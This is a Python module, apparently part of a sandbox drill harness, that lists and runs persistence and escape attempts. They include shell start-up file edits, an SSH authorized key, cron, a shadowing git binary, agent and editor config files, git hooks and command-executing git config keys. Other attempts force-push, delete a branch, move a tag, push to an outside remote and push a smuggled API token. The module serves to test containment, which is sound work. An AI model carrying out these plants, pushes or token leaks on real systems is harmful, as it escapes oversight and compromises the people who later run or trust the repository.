"""Leaving something behind that others run or trust later: hooks, settings, workflows, commits that carry a key."""

from __future__ import annotations

import os
from functools import partial
from pathlib import Path

from ..targets import Targets
from . import Attempt
from .outcome import ABSENT, DONE, Result, try_command, try_deed

PLANT = "#!/bin/sh\ntouch /tmp/planted\n"
EXECUTING_KEYS = (
    "core.hooksPath", "core.fsmonitor", "core.sshCommand", "credential.helper", "core.pager", "core.editor",
    "filter.x.clean", "diff.external", "gpg.program", "alias.status",
)  # fmt: skip
STARTED_BY_OTHERS = (
    ".vscode/tasks.json", ".cursor/rules", ".claude/settings.json", ".mcp.json", ".envrc", ".husky/pre-commit",
    ".github/workflows/planted.yml", ".git/hooks/pre-commit", ".git/hooks/post-checkout",
)  # fmt: skip
OTHER_REMOTE = "https://echo.rentals.example/rentals.git"


def attempts(targets: Targets) -> dict[str, Attempt]:
    """Name the attempts. What was written is left, for a drill to see whether it reaches the real workspace."""
    found: dict[str, Attempt] = {
        "rename .git away": partial(try_deed, _rename_git),
        "shell start-up file": partial(try_deed, _append, Path.home() / ".bashrc", "touch /tmp/planted\n"),
        "authorised key": partial(try_deed, _write, Path.home() / ".ssh/authorized_keys", "ssh-ed25519 AAAA planted\n"),
        "program on the path": partial(try_deed, _write, Path("/usr/local/bin/git"), PLANT),
        "cron": partial(try_deed, _write, Path("/etc/cron.d/planted"), "* * * * * root true\n"),
        "commit and push the raw token": partial(_push_token, targets.raw()),
        "force-push main": partial(_git, "push", "--force", "origin", "HEAD~1:main"),
        "delete a remote branch": partial(_git, "push", "origin", ":feature/invoices"),
        "move a tag": partial(_git, "push", "--force", "origin", "HEAD:refs/tags/v1.0"),
        "push to a remote of its own": partial(_git, "push", OTHER_REMOTE, "HEAD:main"),
        "push a workflow": _push_workflow,
    }
    for path in STARTED_BY_OTHERS:
        found[f"write {path}"] = partial(try_deed, _write, Path(path), PLANT)
    for key in EXECUTING_KEYS:
        found[f"git config {key}"] = partial(_git, "config", key, "!touch /tmp/planted")
    return found


def _git(*arguments: str) -> Result:
    return try_command("git", "-c", "commit.gpgsign=false", *arguments)


def _write(path: Path, text: str) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return f"wrote {path}"


def _append(path: Path, text: str) -> str:
    with path.open("a") as file:
        file.write(text)
    return f"appended to {path}"


def _rename_git() -> str:
    os.rename(".git", ".git-away")
    os.rename(".git-away", ".git")
    return "renamed and put back"


def _push_token(raw: str) -> Result:
    if not raw:
        return Result(ABSENT, 0, "no token was smuggled in")
    return _push_new_file("planted-token", "config/cache.toml", f'api_token = "{raw}"\n')


def _push_workflow() -> Result:
    return _push_new_file("planted-workflow", ".github/workflows/planted.yml", "on: push\njobs: {}\n")


def _push_new_file(branch: str, path: str, text: str) -> Result:
    """Commit one file on a new branch in a worktree of its own, and push that."""
    tree = Path(".cache") / branch
    made = _git("worktree", "add", "-q", "-b", branch, str(tree))
    if made.outcome != DONE:
        return made
    _write(tree / path, text)
    for step in (("add", "-f", path), ("commit", "-q", "-m", "Cache settings"), ("push", "-q", "origin", branch)):
        done = _git("-C", str(tree), *step)
        if done.outcome != DONE:
            return done
    return Result(DONE, 0, f"pushed {branch}")
